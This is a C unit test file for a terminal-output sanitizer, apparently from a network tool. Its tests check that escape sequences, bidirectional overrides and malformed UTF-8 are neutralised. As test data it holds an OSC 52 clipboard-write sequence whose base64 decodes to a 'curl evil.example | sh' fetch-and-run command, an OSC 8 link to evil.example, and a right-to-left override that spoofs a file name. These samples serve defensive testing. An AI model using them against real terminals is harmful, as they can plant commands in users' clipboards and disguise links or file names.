/* sanitize.h: text from the network made safe for a terminal or a log line. */
#include "config.h"

#include "util/sanitize.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* Sanitizes LEN bytes of IN within MAX bytes and checks the result is EXPECTED. */
static void assert_sanitized(const char *in, size_t len, size_t max_bytes, const char *expected)
{
	char *out = sanitize_for_terminal(in, len, max_bytes);
	assert_non_null(out);
	assert_string_equal(out, expected);
	free(out);
}

/* The test's own UTF-8 check (RFC 3629), independent of the module's decoder. */
static bool is_strict_utf8(const unsigned char *s, size_t len)
{
	size_t i = 0;
	while (i < len) {
		unsigned char c = s[i];
		size_t extra;
		uint32_t cp;
		if (c <= 0x7f) {
			i++;
			continue;
		} else if (c >= 0xc2 && c <= 0xdf) {
			extra = 1, cp = c & 0x1fu;
		} else if (c >= 0xe0 && c <= 0xef) {
			extra = 2, cp = c & 0x0fu;
		} else if (c >= 0xf0 && c <= 0xf4) {
			extra = 3, cp = c & 0x07u;
		} else {
			return false;
		}
		if (extra >= len - i)
			return false;
		for (size_t k = 1; k <= extra; k++) {
			if ((s[i + k] & 0xc0) != 0x80)
				return false;
			cp = (cp << 6) | (s[i + k] & 0x3fu);
		}
		if ((extra == 2 && cp < 0x800) || (extra == 3 && (cp < 0x10000 || cp > 0x10ffff)) ||
		    (cp >= 0xd800 && cp <= 0xdfff))
			return false;
		i += extra + 1;
	}
	return true;
}

/* True when TEXT holds a byte or character a terminal could act on: C0 controls, DEL,
 * C1 controls (as UTF-8) or the bidirectional controls U+202A-U+202E and U+2066-U+2069. */
static bool has_terminal_control(const char *text)
{
	const unsigned char *s = (const unsigned char *)text;
	for (size_t i = 0; s[i] != '\0'; i++) {
		if (s[i] < 0x20 || s[i] == 0x7f)
			return true;
		if (s[i] == 0xc2 && s[i + 1] >= 0x80 && s[i + 1] <= 0x9f)
			return true;
		if (s[i] == 0xe2 && s[i + 1] == 0x80 && s[i + 2] >= 0xaa && s[i + 2] <= 0xae)
			return true;
		if (s[i] == 0xe2 && s[i + 1] == 0x81 && s[i + 2] >= 0xa6 && s[i + 2] <= 0xa9)
			return true;
	}
	return false;
}

static void test_plain_ascii_is_kept(void **state)
{
	(void)state;
	const char *text = "alice@example.org: Approve? [y/N] ~{}|";
	assert_sanitized(text, strlen(text), 100, text);
}

static void test_tab_cr_and_lf_become_spaces(void **state)
{
	(void)state;
	assert_sanitized("a\tb\rc\nd", 7, 100, "a b c d");
}

static void test_other_c0_controls_become_question_marks(void **state)
{
	(void)state;
	for (unsigned c = 0x01; c < 0x20; c++) {
		if (c == '\t' || c == '\r' || c == '\n')
			continue;
		char in[4] = { 'x', (char)c, 'y', '\0' };
		assert_sanitized(in, 3, 100, "x?y");
	}
}

static void test_bel_and_backspace_are_replaced(void **state)
{
	(void)state;
	/* A backspace could overwrite what is shown; BEL ends OSC sequences and rings. */
	assert_sanitized("root\b\b\b\balice\a", 14, 100, "root????alice?");
}

static void test_del_is_replaced(void **state)
{
	(void)state;
	assert_sanitized("a\x7f"
			 "b",
			 3, 100, "a?b");
}

static void test_csi_color_sequence_cannot_start(void **state)
{
	(void)state;
	const char *in = "\x1b[31mred\x1b[0m";
	assert_sanitized(in, strlen(in), 100, "?[31mred?[0m");
}

static void test_osc8_hyperlink_cannot_start(void **state)
{
	(void)state;
	const char *in = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\";
	assert_sanitized(in, strlen(in), 100, "?]8;;https://evil.example/?\\click?]8;;?\\");
}

static void test_osc52_clipboard_write_cannot_start(void **state)
{
	(void)state;
	const char *in = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07";
	assert_sanitized(in, strlen(in), 100, "?]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==?");
}

static void test_c1_controls_in_utf8_are_replaced(void **state)
{
	(void)state;
	/* U+0080..U+009F: U+009B is CSI and U+009D is OSC on terminals that honour C1. */
	for (unsigned cp = 0x80; cp <= 0x9f; cp++) {
		char in[5] = { 'x', (char)0xc2, (char)cp, 'y', '\0' };
		assert_sanitized(in, 4, 100, "x?y");
	}
}

static void test_first_character_after_c1_range_is_kept(void **state)
{
	(void)state;
	/* U+00A0 (no-break space) and U+00E9 are ordinary text. */
	assert_sanitized("\xc2\xa0\xc3\xa9", 4, 100, "\xc2\xa0\xc3\xa9");
}

static void test_bidi_overrides_are_replaced(void **state)
{
	(void)state;
	/* U+202E RIGHT-TO-LEFT OVERRIDE would show "alice" + reversed text as something else. */
	const char *rlo = "admin\xe2\x80\xaetxt.exe";
	assert_sanitized(rlo, strlen(rlo), 100, "admin?txt.exe");
	/* U+2066..U+2069: the isolates. */
	const char *isolates = "a\xe2\x81\xa6"
			       "b\xe2\x81\xa7"
			       "c\xe2\x81\xa8"
			       "d\xe2\x81\xa9"
			       "e";
	assert_sanitized(isolates, strlen(isolates), 100, "a?b?c?d?e");
	/* U+202A..U+202D: embeddings and the other override. */
	const char *embeddings = "\xe2\x80\xaa\xe2\x80\xab\xe2\x80\xac\xe2\x80\xad";
	assert_sanitized(embeddings, strlen(embeddings), 100, "????");
}

static void test_stray_continuation_byte_is_replaced(void **state)
{
	(void)state;
	assert_sanitized("a\x80"
			 "b\xbf",
			 4, 100, "a?b?");
}

static void test_overlong_encoding_is_replaced(void **state)
{
	(void)state;
	/* "\xc0\xaf" is an overlong '/', "\xe0\x80\xaf" another; neither may pass as text. */
	assert_sanitized("a\xc0\xaf"
			 "b",
			 4, 100, "a??b");
	assert_sanitized("\xe0\x80\xaf", 3, 100, "???");
	/* An overlong ESC must not become an ESC either. */
	assert_sanitized("\xc0\x9b[31m", 6, 100, "??[31m");
}

static void test_surrogate_is_replaced(void **state)
{
	(void)state;
	assert_sanitized("\xed\xa0\x80", 3, 100, "???");
	assert_sanitized("x\xed\xbf\xbfy", 5, 100, "x???y");
}

static void test_truncated_sequence_is_replaced(void **state)
{
	(void)state;
	/* The euro sign is e2 82 ac: cut at the end of the input, or before a plain byte. */
	assert_sanitized("a\xe2\x82", 3, 100, "a??");
	assert_sanitized("\xe2\x82z", 3, 100, "??z");
	assert_sanitized("\xf0\x9f\x98", 3, 100, "???");
}

static void test_code_point_above_u10ffff_is_replaced(void **state)
{
	(void)state;
	assert_sanitized("\xf4\x90\x80\x80", 4, 100, "????");
	assert_sanitized("\xf7\xbf\xbf\xbf", 4, 100, "????");
	assert_sanitized("\xf8\x88\x80\x80\x80", 5, 100, "?????");
	assert_sanitized("\xfe\xff", 2, 100, "??");
}

static void test_valid_multibyte_text_is_kept(void **state)
{
	(void)state;
	/* Two-, three- and four-byte characters, the largest code point U+10FFFF included. */
	const char *text = "Gr\xc3\xbc\xc3\x9f"
			   "e \xe6\x9d\xb1\xe4\xba\xac \xf0\x9f\x98\x80 \xf4\x8f\xbf\xbf";
	assert_sanitized(text, strlen(text), 100, text);
}

static void test_embedded_nul_within_len_is_replaced(void **state)
{
	(void)state;
	assert_sanitized("al\0ice", 6, 100, "al?ice");
}

static void test_only_in_len_bytes_are_read(void **state)
{
	(void)state;
	assert_sanitized("abcdef", 3, 100, "abc");
	assert_sanitized("abcdef", 0, 100, "");
}

static void test_longer_input_is_cut_with_ellipsis(void **state)
{
	(void)state;
	/* Nine bytes into eight: five bytes of text and "...". */
	assert_sanitized("abcdefghi", 9, 8, "abcde...");
}

static void test_exactly_fitting_input_is_not_cut(void **state)
{
	(void)state;
	assert_sanitized("abcdefgh", 8, 8, "abcdefgh");
	/* Multibyte text of exactly MAX_BYTES bytes fits too. */
	assert_sanitized("\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9", 8, 8, "\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9");
}

static void test_cut_falls_on_a_character_boundary(void **state)
{
	(void)state;
	/* "abcd" + two e-acute + "zz" = 10 bytes into 8: the first e-acute would end at byte 6,
	 * past the 5 bytes left before "...", so it is dropped whole, not split. */
	assert_sanitized("abcd\xc3\xa9\xc3\xa9zz", 10, 8, "abcd...");
	/* A four-byte emoji is never split either. */
	assert_sanitized("ab\xf0\x9f\x98\x80xyzzzz", 12, 8, "ab...");
}

static void test_smallest_max_keeps_one_byte_and_ellipsis(void **state)
{
	(void)state;
	assert_sanitized("abcdef", 6, 4, "a...");
	assert_sanitized("abcd", 4, 4, "abcd");
}

static void test_result_never_exceeds_max_bytes(void **state)
{
	(void)state;
	const char *text = "\xe6\x9d\xb1\xe4\xba\xac-\x1b[1m\xf0\x9f\x98\x80\xc3\xa9 tab\tend";
	size_t len = strlen(text);
	for (size_t max = 4; max <= len + 2; max++) {
		char *out = sanitize_for_terminal(text, len, max);
		assert_non_null(out);
		size_t out_len = strlen(out);
		assert_true(out_len <= max);
		assert_true(is_strict_utf8((const unsigned char *)out, out_len));
		/* Cut output ends in "..."; uncut output is the whole sanitized text. */
		if (max < len)
			assert_string_equal(out + out_len - 3, "...");
		free(out);
	}
}

static void test_random_bytes_never_yield_controls_or_invalid_utf8(void **state)
{
	(void)state;
	/* A fixed linear congruential generator: the same inputs every run. */
	uint32_t seed = 12345;
	unsigned char in[64];
	for (int round = 0; round < 20000; round++) {
		size_t len = (size_t)(round % (int)sizeof(in));
		for (size_t i = 0; i < len; i++) {
			seed = seed * 1103515245u + 12345u;
			unsigned char byte = (unsigned char)(seed >> 16);
			/* Bias toward the interesting bytes: ESC, lead and continuation bytes. */
			static const char interesting[] = "\x1b\xc2\x9b\xe2\x80\xae\xed\xa0\xf4\x90\x07";
			in[i] = (seed & 0x100) ? byte : (unsigned char)interesting[byte % (sizeof(interesting) - 1)];
		}
		char *out = sanitize_for_terminal((const char *)in, len, 48);
		assert_non_null(out);
		size_t out_len = strlen(out);
		assert_true(out_len <= 48);
		assert_true(is_strict_utf8((const unsigned char *)out, out_len));
		assert_false(has_terminal_control(out));
		free(out);
	}
}

static void test_visible_ascii_accepts_every_printable_character(void **state)
{
	(void)state;
	char all[0x7f - 0x21];
	for (unsigned c = 0x21; c < 0x7f; c++)
		all[c - 0x21] = (char)c;
	assert_true(is_visible_ascii(all, sizeof(all)));
	assert_true(is_visible_ascii("WDJB-MJHT", 9));
}

static void test_visible_ascii_refuses_space_controls_del_and_high_bytes(void **state)
{
	(void)state;
	assert_false(is_visible_ascii("WDJB MJHT", 9));
	assert_false(is_visible_ascii("WDJB\x1b[0m", 8));
	assert_false(is_visible_ascii("ab\x7f", 3));
	assert_false(is_visible_ascii("ab\x80", 3));
	assert_false(is_visible_ascii("\xc3\xa9", 2));
	assert_false(is_visible_ascii("ab\0cd", 5));
	assert_false(is_visible_ascii("ab\t", 3));
}

static void test_visible_ascii_reads_only_len_bytes(void **state)
{
	(void)state;
	/* What follows LEN is not looked at. */
	assert_true(is_visible_ascii("code\n", 4));
	assert_false(is_visible_ascii("code\n", 5));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_plain_ascii_is_kept),
		cmocka_unit_test(test_tab_cr_and_lf_become_spaces),
		cmocka_unit_test(test_other_c0_controls_become_question_marks),
		cmocka_unit_test(test_bel_and_backspace_are_replaced),
		cmocka_unit_test(test_del_is_replaced),
		cmocka_unit_test(test_csi_color_sequence_cannot_start),
		cmocka_unit_test(test_osc8_hyperlink_cannot_start),
		cmocka_unit_test(test_osc52_clipboard_write_cannot_start),
		cmocka_unit_test(test_c1_controls_in_utf8_are_replaced),
		cmocka_unit_test(test_first_character_after_c1_range_is_kept),
		cmocka_unit_test(test_bidi_overrides_are_replaced),
		cmocka_unit_test(test_stray_continuation_byte_is_replaced),
		cmocka_unit_test(test_overlong_encoding_is_replaced),
		cmocka_unit_test(test_surrogate_is_replaced),
		cmocka_unit_test(test_truncated_sequence_is_replaced),
		cmocka_unit_test(test_code_point_above_u10ffff_is_replaced),
		cmocka_unit_test(test_valid_multibyte_text_is_kept),
		cmocka_unit_test(test_embedded_nul_within_len_is_replaced),
		cmocka_unit_test(test_only_in_len_bytes_are_read),
		cmocka_unit_test(test_longer_input_is_cut_with_ellipsis),
		cmocka_unit_test(test_exactly_fitting_input_is_not_cut),
		cmocka_unit_test(test_cut_falls_on_a_character_boundary),
		cmocka_unit_test(test_smallest_max_keeps_one_byte_and_ellipsis),
		cmocka_unit_test(test_result_never_exceeds_max_bytes),
		cmocka_unit_test(test_random_bytes_never_yield_controls_or_invalid_utf8),
		cmocka_unit_test(test_visible_ascii_accepts_every_printable_character),
		cmocka_unit_test(test_visible_ascii_refuses_space_controls_del_and_high_bytes),
		cmocka_unit_test(test_visible_ascii_reads_only_len_bytes),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
